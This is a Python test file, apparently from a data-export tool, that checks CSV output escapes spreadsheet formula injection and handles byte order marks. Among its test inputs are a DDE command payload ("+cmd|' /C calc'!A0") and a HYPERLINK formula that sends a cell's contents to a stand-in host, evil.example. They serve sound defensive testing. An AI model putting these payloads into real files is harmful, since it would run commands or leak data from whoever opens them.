"""CSV in a spreadsheet: UTF-8 that is known as such, and no cell that runs."""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from lmtx.render.text.cells import escape_formula, flatten_value
from lmtx.render.text.formats import write_comma_separated
from support import BASE, Answer, read_folder

Run = Callable[..., Answer]
ARMED = re.compile(r"[=+\-@＝＋－＠\t\r]")
DISARMED = r"(?<=;)'(?=[\"'\s]*[=+\-@＝＋－＠])|^'(?='*[=+\-@＝＋－＠])"
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("＝1", "'＝1"), ("-", "'-"), ("-inf", "'-inf"), ("-1_0", "'-1_0"),
        ("x;=1", "x;'=1"), ("a; -2; b", "a;' -2; b"), ('x;"=1', "x;'\"=1"), ("x;'=1", "x;''=1"), ("=1;@x", "'=1;'@x"), ("a; b", "a; b"), ("a;2-5", "a;2-5"),
        ("'=1", "''=1"), ("''-x", "'''-x"), ("'-0.5", "''-0.5"),
        ("-0.5", "-0.5"), ("+3", "+3"), ("-1e-07", "-1e-07"), ("", ""), ("plain", "plain"), ("'quoted'", "'quoted'"), ("a=b", "a=b"), ("'", "'"),
    ],
)  # fmt: skip
def test_examples(text: str, cell: str) -> None:
    assert escape_formula(text) == cell


@given(st.text(st.sampled_from("=+-@＝＋－＠'0159.eE a\t\r\n;\"")) | st.text(max_size=8))
@example("''=")
@example("'=")
@example("\t=1")
def test_nothing_runs_and_nothing_is_lost(text: str) -> None:
    """A cell begins no formula unless it is a number; taking the first apostrophe away gives the
    text back."""
    was = flatten_value(text)
    cell = escape_formula(was)
    assert not ARMED.match(cell) or NUMBER.fullmatch(cell)
    assert re.sub(DISARMED, "", cell) == was


@given(st.lists(st.text(st.sampled_from("=+-@＝'a1 \",;\n")), min_size=1, max_size=4))
@example(['x;=HYPERLINK("http://evil.example/?"&A1,"see");y'])
@example(['x;"=1+1', '"=1;=2'])
@example(["a;=1+2;b"])
@example([""])
def test_nothing_runs_with_semicolons_either(cells: list[str]) -> None:
    """A spreadsheet that takes semicolons for separators, alone or with commas, finds no formula;
    one that takes commas finds the cells."""
    text = "".join(write_comma_separated(["id"] * len(cells), [cells]))
    [_, row] = csv.reader(io.StringIO(text))
    assert [re.sub(DISARMED, "", cell) for cell in row] == [flatten_value(cell) for cell in cells]
    assert all(";" not in line.split('"')[0::2] for line in text.splitlines())
    for line in csv.reader(io.StringIO(text), delimiter=";"):
        first, *others = line
        assert not [cell for cell in others if ARMED.match(cell.strip().lstrip('"'))]
        assert not ARMED.match(first) or NUMBER.match(first)


def test_a_text_with_a_semicolon_stays_in_quotes() -> None:
    text = "".join(write_comma_separated(["a", "b"], [["x; y", "z"], ["w", 'q"']]))
    assert text == 'a,b\n"x; y",z\nw,"q"""\n'


def test_logical_columns_are_those_of_r_and_of_a_spreadsheet() -> None:
    assert "".join(write_comma_separated(["a"], [[True], [False], ["true"], [None]])) == (
        'a\nTRUE\nFALSE\ntrue\n""\n'
    )


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_a_number_stays_a_number(value: float) -> None:
    assert float(escape_formula(flatten_value(value))) == float(flatten_value(value))


@pytest.fixture
def armed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A knowledge base in which summaries and an assessor begin like formulas."""
    folder = shutil.copytree(BASE, tmp_path / "armed")
    path = folder / "studies" / "doe-2020.toml"
    text = path.read_text(encoding="utf-8")
    text = re.sub(r'^summary = "', 'summary = "=HYPERLINK(1) ', text, flags=re.M)
    path.write_text(
        text.replace('assessed_by = "central review"', 'at = "-0.5"\nassessed_by = "@them"'),
        encoding="utf-8",
    )
    read_folder(monkeypatch, folder)
    return folder


def sheet(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_neither_the_export_nor_a_listing_hands_out_a_formula(run: Run, armed: Path) -> None:
    for answer in (run("export", "-f", "csv", "--table", "evidence"), run("evidence", "--csv")):
        assert answer.code == 0, answer.err
        [row, *_] = [row for row in sheet(answer.out) if row["study"] == "doe-2020"]
        assert row["summary"].startswith("'=HYPERLINK(1) ")
    [figure] = [
        row
        for row in sheet(run("export", "-f", "csv", "--table", "outcomes").out)
        if row["at"] == "-0.5"
    ]
    assert figure["assessed_by"] == "'@them"


def test_forms_for_programs_keep_every_cell(run: Run, armed: Path) -> None:
    assert any(
        row["summary"].startswith("=HYPERLINK(1) ") for row in run("evidence", "--tsv").table
    )
    assert any(
        row["summary"].startswith("=HYPERLINK(1) ") for row in run("evidence", "--json").rows
    )
    assert '"=HYPERLINK(1) ' in run("export").out


def test_a_byte_order_mark_on_request(run: Run, tmp_path: Path) -> None:
    assert run("export", "-f", "csv", "-o", str(tmp_path / "out"), "--bom").code == 0
    for path in (tmp_path / "out").iterdir():
        content = path.read_bytes()
        assert content.startswith(b"\xef\xbb\xbf") is (path.suffix == ".csv"), path.name
        assert content.count(b"\xef\xbb\xbf") <= 1
    plain = run("export", "-f", "csv", "--table", "facts").out
    assert run("export", "-f", "csv", "--table", "facts", "--bom").out == "\ufeff" + plain
    assert (tmp_path / "out" / "facts.csv").read_text(encoding="utf-8-sig") == plain


def test_a_listing_has_a_byte_order_mark_on_request(run: Run) -> None:
    plain = run("evidence", "--csv").out
    assert run("evidence", "--csv", "--bom").out == "\ufeff" + plain
    refused = run("evidence", "--json", "--bom")
    assert refused.code == 2 and "--bom" in refused.err and "csv" in refused.err
